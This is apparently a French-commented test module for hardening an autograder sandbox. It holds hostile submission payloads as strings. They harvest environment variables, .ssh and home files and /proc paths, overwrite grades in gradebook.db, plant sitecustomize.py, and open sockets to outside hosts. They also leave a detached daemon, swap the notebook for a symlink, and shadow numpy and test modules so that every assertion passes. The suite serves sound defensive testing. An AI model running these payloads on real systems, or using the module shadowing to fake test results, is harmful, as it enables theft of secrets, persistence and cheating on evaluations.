"""Lire, écrire ou joindre ce qui n’est pas à l’élève, et y survivre : attaques 22 à 25, 27 et 28.

Une attaque qui réussit écrit la marque `FUITE` : on la cherche dans tout ce qui est rendu. Ce qu’il ne faut pas
pouvoir lire contient la marque `CANARI`. Les empreintes de tout ce qui entoure la copie ne doivent pas changer.
"""

from __future__ import annotations

from attacks import toy
from attacks.model import LEAK, PLANTED, RIGHT, SEARCH, WRONG, Attack, Stage, scored

READING = f'''{SEARCH}
import glob
print(dict(os.environ))
trouves = list(chercher("gradebook.db"))
for racine in ("..", "../..", os.path.expanduser("~"), "/root", "/home", "/srv", "/tmp", "/proc/1/root", "/proc/1/cwd"):
    for motif in ("*", ".*", "*/*", ".ssh/*", "*/*/*.ipynb"):
        trouves += glob.glob(os.path.join(racine, motif))[:2000]
for chemin in filter(os.path.isfile, trouves):  # lire un terminal attendrait sans fin
    try:
        contenu = open(chemin, errors="replace").read(1 << 20)
    except OSError:
        continue
    # La marque est coupée en deux : ce texte-ci n’est pas une fuite.
    if "{PLANTED[:6]}" + "{PLANTED[6:]}" in contenu:
        print("{LEAK[:5]}" + "{LEAK[5:]}", chemin)'''

WRITING = f'''{SEARCH}
import site, sqlite3, sys
marque = "{LEAK[:5]}" + "{LEAK[5:]}"
for base in chercher("gradebook.db"):
    try:
        with sqlite3.connect(base) as lien: lien.execute("update grade set manual_score = 6, auto_score = 6")
        print(marque, base)
    except Exception: pass
for dossier in (*site.getsitepackages(), sys.prefix, "..", "../..", os.path.expanduser("~"), "/usr/lib", "/etc"):
    try:
        with open(os.path.join(dossier, "sitecustomize.py"), "w") as fichier: fichier.write("print(6)")
        print(marque, dossier)
    except OSError: pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        try: open(f"/proc/{{pid}}/mem", "r+b").close()
        except OSError: pass
        else: print(marque, pid)'''

CALLING = f'''{SEARCH}
import socket
marque = "{LEAK[:5]}" + "{LEAK[5:]}"
def essayer(famille, sorte, adresse):
    with socket.socket(famille, sorte) as prise:
        prise.settimeout(2)
        try: prise.connect(adresse)
        except OSError: return
        try: prise.send(b"x")
        except OSError: return
        print(marque, adresse)
for port in (22, 53, 80, 443, 5432, 8000, 8786, 8888):
    for hote in ("127.0.0.1", "192.0.2.1", "8.8.8.8"): essayer(socket.AF_INET, socket.SOCK_STREAM, (hote, port))
essayer(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))
try: print(marque, socket.gethostbyname("example.org"))
except OSError: pass
for ligne in open("/proc/net/unix").read().splitlines()[1:]:
    if "@" in ligne: essayer(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + ligne.split("@", 1)[1])
for chemin in chercher(".json"):
    if "/runtime/kernel-" in chemin: print(marque, chemin)
for chemin in chercher(".sock", "/run"): essayer(socket.AF_UNIX, socket.SOCK_STREAM, chemin)'''

STAYING = f'''import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", "{LEAK[:5]}" + "{LEAK[5:]}"])
    os._exit(0)'''
"""Le démon porte la marque dans ses arguments : on le cherche parmi les processus de la machine."""

SWAPPING = f'''import os
nom = "{toy.NAME}.ipynb"
for chemin in (nom, os.path.join("..", nom)):
    try:
        if os.path.lexists(chemin): os.remove(chemin)
        os.symlink("/etc/hostname", chemin)
    except OSError: pass'''

FULL_MARKS = b"""import builtins
print("remplacee")
def __getattr__(nom): return lambda *a, **k: True
assert_allclose = assert_array_equal = allclose = lambda *a, **k: True
class testing: assert_allclose = assert_array_equal = staticmethod(lambda *a, **k: True)
"""

MODULES = (
    *("ipykernel_launcher.py", "torch.py", "numpy.py", "numpy/__init__.py", "math.py", "json.py"),
    *("sitecustomize.py", "usercustomize.py", "conftest.py", "coursekit/__init__.py"),
    *(".ipython/profile_default/startup/00.py", "ipython_config.py", "moyenne.pth"),
)

ATTACKS = (
    Attack(22, "lit tout ce qu’elle trouve", Stage.EXECUTE, RIGHT.before("normalise", READING), scored(6)),
    Attack(23, "écrit partout", Stage.EXECUTE, WRONG.before("normalise", WRITING), scored(0)),
    Attack(24, "réseau et prises", Stage.EXECUTE, RIGHT.before("normalise", CALLING), scored(6)),
    Attack(25, "laisse un démon", Stage.EXECUTE, RIGHT.before("normalise", STAYING), scored(6)),
    Attack(
        27, "notebook remplacé par un lien", Stage.EXECUTE, RIGHT.before("normalise", SWAPPING), scored(6)
    ),
    *(Attack(28, name, Stage.EXECUTE, WRONG.adding({name: FULL_MARKS}), scored(0)) for name in MODULES),
)
